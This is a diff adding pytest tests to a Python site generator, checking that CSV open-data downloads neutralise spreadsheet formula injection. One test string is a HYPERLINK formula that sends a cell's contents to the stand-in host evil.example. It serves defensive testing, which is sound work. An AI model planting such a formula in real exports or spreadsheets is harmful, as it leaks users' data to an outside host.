@@ -5,8 +5,12 @@ good site is left exactly as it was."""
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
+import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -15,6 +19,7 @@ from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
+from bs4 import BeautifulSoup
 
 from test_validation import DATA
 from vakr.yamlsource import MAX_DEPTH, MAX_DIGITS, MAX_REPEATED
@@ -212,3 +217,41 @@ def test_a_real_pdf_inside_docs_is_accepted(project: Path) -> None:
     _report_file(project, "documents/2026/analytical-report.pdf")
     result = _vakr(project, "check")
     assert result.returncode == 0, result.stderr
+
+
+# --- spreadsheet formulas in the CSV downloads (finding 3) ---------------------------------
+
+LEAK = '=HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(project: Path, start: str) -> None:
+    from vakr.load import load_site
+    from vakr.opendata import PLAN_FIELDS, csv_bytes, json_bytes, plan_records
+
+    plan = project / "data" / PLAN
+    text = plan.read_text(encoding="utf-8")
+    formula = start + LEAK[1:]
+    plan.write_text(re.sub(r"  measure:\n    ru: .*\n", lambda _: f"  measure:\n    ru: {json_string(formula)}\n"
+                           f"    kk: {json_string(formula)}\n", text, count=1), encoding="utf-8")
+    site = load_site(project / "data")
+    cycle = site.cycle("2026")
+    raw = csv_bytes(plan_records(cycle), PLAN_FIELDS).decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
+    assert rows[0]["measure_ru"] == rows[0]["measure_kk"] == "'" + formula
+    assert '"' + ("'" + formula).replace('"', '""') + '"' in raw  # quoted as well, as OWASP recommends
+    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values()
+               if value != "-")  # the documents' «no deadline» is left as it is
+    assert json.loads(json_bytes(cycle, site))["plan"][0]["measure_ru"] == formula  # JSON keeps the text
+
+
+def json_string(value: str) -> str:
+    """A YAML double-quoted scalar (JSON is YAML) holding `value` exactly."""
+    return json.dumps(value, ensure_ascii=False)
+
+
+def test_data_page_says_how_the_files_are_written(site: Path) -> None:
+    for prefix, words in (("", "записан с апострофом «'» в начале"), ("kk/", "басында «'» апострофымен жазылған")):
+        page = BeautifulSoup((site / prefix / "2026" / "data" / "index.html").read_bytes(), "html.parser")
+        text = " ".join(page.get_text().split())
+        assert "UTF-8" in text and words in text
